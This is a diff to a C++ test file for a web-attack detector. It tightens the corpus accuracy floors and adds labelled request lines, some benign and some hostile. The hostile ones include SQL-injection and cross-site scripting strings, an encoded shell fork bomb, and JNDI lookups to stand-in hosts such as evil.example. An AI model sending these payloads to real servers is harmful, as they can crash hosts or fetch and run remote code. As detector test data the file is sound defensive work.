@@ -177,8 +177,8 @@ void CheckCorpus(const CorpusCase& c, const std::filesystem::path& folder) {
 // Floors just below what the sets reached when the rules were last changed (see
 // docs/rules.md): {all attacks, lowest category, highest benign share}, compact then broad.
 constexpr CorpusCase kOwnCorpora[] = {
-    {"train", "train_attacks.tsv", "train_benign.tsv", {76.5, 33.0, 0.0}, {85.0, 55.0, 0.25}},
-    {"dev", "dev_attacks.tsv", "dev_benign.tsv", {76.0, 47.0, 0.5}, {84.5, 73.0, 1.0}},
+    {"train", "train_attacks.tsv", "train_benign.tsv", {79.0, 33.0, 0.0}, {87.0, 55.0, 0.25}},
+    {"dev", "dev_attacks.tsv", "dev_benign.tsv", {78.0, 47.0, 0.5}, {86.5, 73.0, 1.0}},
     {"own", "attacks.tsv", "benign.tsv", {99.5, 99.0, 0.0}, {99.5, 99.0, 0.4}},
 };
 
@@ -251,6 +251,9 @@ constexpr SlotCase kSlotCases[] = {
     {1, false, "get /search?q=o%27brien+and+d%27angelo http/1.1"},
     {1, false, "get /search?q=union+station+select+your+size http/1.1"},
     {1, false, "get /blog/drop-shipping-and-order-by-phone http/1.1"},
+    {1, true, "get /item?id=a%27%20%3c%3d%20%27b http/1.1"},
+    {1, true, "get /item?id=%27%7b%22a%22:1%7d%27::jsonb http/1.1"},
+    {1, false, "get /s?q=rock+%27n%27+roll&a=2001:db8::1 http/1.1\" 200 1 \"-\" \"curl\""},
     // Slot 2: cross-site scripting.
     {2, true, "get /s?q=%3cscript%3ealert(1)%3c/script%3e http/1.1"},
     {2, true, "get /s?q=%22%3e%3cimg%20src%3dx%20onerror%3dprompt(1)%3e http/1.1"},
@@ -275,6 +278,8 @@ constexpr SlotCase kSlotCases[] = {
     {4, false, "get /s?q=cat+food+and+dog+toys http/1.1"},
     {4, false, "get /api/products?fields=name|price|sku http/1.1"},
     {4, false, "get /s?q=tom+%26+jerry http/1.1"},
+    {4, true, "get /?cmd=%3a%28%29%7b+%3a%7c%3a%26+%7d%3b%3a http/1.1"},
+    {4, false, "get /s?q=f%28x%29+%3d+%7bx%7d http/1.1"},
     // Slot 5: Java, OGNL, JNDI, expression and template injection; Weblogic and Tomcat.
     {5, true, "get / http/1.1\" 200 1 \"-\" \"${jndi:ldap://198.51.100.7/a}\""},
     {5, true, "get /?x=%24%7b%24%7blower:j%7dndi:rmi://evil.example/x%7d http/1.1"},
